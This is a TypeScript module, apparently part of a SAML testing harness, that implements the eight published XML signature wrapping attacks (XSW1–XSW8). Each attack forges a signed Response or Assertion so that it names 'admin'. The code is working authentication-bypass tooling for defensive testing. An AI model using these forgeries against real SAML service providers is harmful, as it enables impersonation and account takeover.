/**
 * Signature wrapping: the eight attacks of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., 2012), as
 * SAML Raider numbers them. Each keeps what was signed somewhere in the document, and puts somebody else where a careless
 * reader looks.
 */
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

import type { Edit } from './saml-idp.ts';

export type Wrapping = {
  readonly name: string;
  /** What must be signed for the attack to be one. */
  readonly needs: 'signed-response' | 'signed-assertion';
  /** `sameId`: the forgery takes the ID of what was signed, so that a reference finds two. */
  wrap(options: { readonly sameId: boolean }): Edit;
};

type Pieces = {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
  /** A copy of the element as it was before it was signed. */
  unsigned(element: Element): Element;
  /** Makes the assertion in an element, or the element itself, speak of the admin. */
  forge(element: Element): Element;
};

const onDocument =
  (attack: (pieces: Pieces) => void): Wrapping['wrap'] =>
  ({ sameId }) =>
  (xml) => {
    const document = new DOMParser().parseFromString(xml, 'text/xml');
    const response = document.documentElement;
    const assertion = childOf(response, 'Assertion');
    attack({
      document,
      response,
      assertion,
      unsigned(element) {
        const copy = element.cloneNode(true) as Element;
        const signature = findChild(copy, 'Signature');
        if (signature) copy.removeChild(signature);
        return copy;
      },
      forge(element) {
        const [nameId] = Array.from(element.getElementsByTagName('saml:NameID'));
        if (nameId === undefined) throw new Error('nobody to forge');
        nameId.textContent = 'admin';
        if (!sameId) element.setAttribute('ID', `_forged-${element.localName}`);
        // What a forged Response brings along is not the assertion it was made from, either.
        const inner = findChild(element, 'Assertion');
        if (inner && !sameId) inner.setAttribute('ID', '_forged-inner');
        return element;
      },
    });
    return new XMLSerializer().serializeToString(document);
  };

const findChild = (parent: Element, name: string): Element | undefined =>
  (Array.from(parent.childNodes) as Element[]).find((node) => node.localName === name);

function childOf(parent: Element, name: string): Element {
  const child = findChild(parent, name);
  if (child === undefined) throw new Error(`no ${name} to wrap`);
  return child;
}

export const wrappings: readonly Wrapping[] = [
  {
    name: 'XSW1: the signed Response inside the signature of a forged one',
    needs: 'signed-response',
    wrap: onDocument(({ response, unsigned, forge }) => {
      const original = unsigned(response);
      childOf(forge(response), 'Signature').appendChild(original);
    }),
  },
  {
    name: 'XSW2: the signed Response beside its signature in a forged one',
    needs: 'signed-response',
    wrap: onDocument(({ response, unsigned, forge }) => {
      const original = unsigned(response);
      response.insertBefore(original, childOf(forge(response), 'Signature'));
    }),
  },
  {
    name: 'XSW3: a forged assertion before the signed one',
    needs: 'signed-assertion',
    wrap: onDocument(({ response, assertion, unsigned, forge }) => {
      response.insertBefore(forge(unsigned(assertion)), assertion);
    }),
  },
  {
    name: 'XSW4: a forged assertion around the signed one',
    needs: 'signed-assertion',
    wrap: onDocument(({ response, assertion, unsigned, forge }) => {
      const forged = forge(unsigned(assertion));
      response.replaceChild(forged, assertion);
      forged.appendChild(assertion);
    }),
  },
  {
    name: 'XSW5: a forged assertion with the signature, the signed one behind it',
    needs: 'signed-assertion',
    wrap: onDocument(({ response, assertion, unsigned, forge }) => {
      const original = unsigned(assertion);
      forge(assertion);
      response.appendChild(original);
    }),
  },
  {
    name: 'XSW6: a forged assertion with the signature, the signed one inside that',
    needs: 'signed-assertion',
    wrap: onDocument(({ assertion, unsigned, forge }) => {
      const original = unsigned(assertion);
      childOf(forge(assertion), 'Signature').appendChild(original);
    }),
  },
  {
    name: 'XSW7: a forged assertion in Extensions',
    needs: 'signed-assertion',
    wrap: onDocument(({ document, response, assertion, unsigned, forge }) => {
      const extensions = document.createElementNS(response.namespaceURI, 'samlp:Extensions');
      extensions.appendChild(forge(unsigned(assertion)));
      response.insertBefore(extensions, assertion);
    }),
  },
  {
    name: 'XSW8: a forged assertion with the signature, the signed one in an Object of that',
    needs: 'signed-assertion',
    wrap: onDocument(({ document, assertion, unsigned, forge }) => {
      const original = unsigned(assertion);
      const signature = childOf(forge(assertion), 'Signature');
      const object = document.createElementNS(signature.namespaceURI, 'ds:Object');
      object.appendChild(original);
      signature.appendChild(object);
    }),
  },
];
